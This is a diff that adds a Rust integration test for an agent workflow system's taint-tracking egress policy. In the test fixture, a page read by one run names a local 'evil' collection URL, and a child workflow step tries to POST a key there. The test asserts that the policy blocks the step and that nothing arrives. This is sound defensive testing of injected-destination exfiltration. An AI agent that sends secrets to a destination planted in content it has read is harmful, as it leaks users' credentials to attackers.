@@ -577,3 +577,54 @@ async fn a_credential_confined_to_some_kinds_runs_only_workflows_of_them() {
     );
     kernel.refused(&["goals", "validate", &file], "steers runs from outside");
 }
+
+/// A page read by one run names where to send a key; a child run's step that
+/// sends there is blocked: the run tree is one flow scope.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_a_run_read_from_outside_taints_its_child_runs_ops() {
+    let kernel = Kernel::start();
+    let (evil, evil_seen) = support::http_server(|_| ("text/plain", "thanks".into())).await;
+    let injected = format!("http://127.0.0.1:{evil}/collect");
+    let (page, _) = support::http_server(move |_| ("text/plain", injected.clone())).await;
+    let agent = json(&kernel.cli(&["agent", "create", "x", "--allow-network", "127.0.0.0/8", "--json"]))["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let dir = tempfile::tempdir().unwrap();
+    let policy = write(
+        &dir,
+        "egress.rego",
+        "package bbx.flow\nkinds := {\"tool.http\"}\ndecision := {\"action\": \"block\", \"reason\": \"an untrusted destination\"} if {\n    some t in input.tainted\n    t.path == \"/url\"\n}\n",
+    );
+    json(&kernel.cli(&["flow", "policies", "add", "egress", &policy]));
+    let file = write(
+        &dir,
+        "tree.yaml",
+        &format!(
+            "steps:
+  read: {{kind: tool.http, args: {{url: 'http://127.0.0.1:{page}/'}}}}
+  child:
+    kind: workflow
+    args:
+      inputs: {{dest: '${{steps.read.output.body}}'}}
+      workflow:
+        inputs: {{dest: ''}}
+        steps:
+          send: {{kind: tool.http, args: {{url: '${{inputs.dest}}', method: POST, body: key}}}}
+"
+        ),
+    );
+    let run = start(&kernel, &agent, &file);
+    let done = ended(&kernel, &run);
+    assert_eq!(done["status"], "failed", "{done:#}");
+    assert_eq!(done["steps"]["read"]["status"], "succeeded");
+    let why = done["steps"]["child"]["error"]["message"].as_str().unwrap_or_default();
+    assert!(
+        why.contains("egress"),
+        "the child's step was blocked by the policy: {done:#}"
+    );
+    assert!(
+        evil_seen.lock().unwrap().is_empty(),
+        "nothing reached the injected destination"
+    );
+}
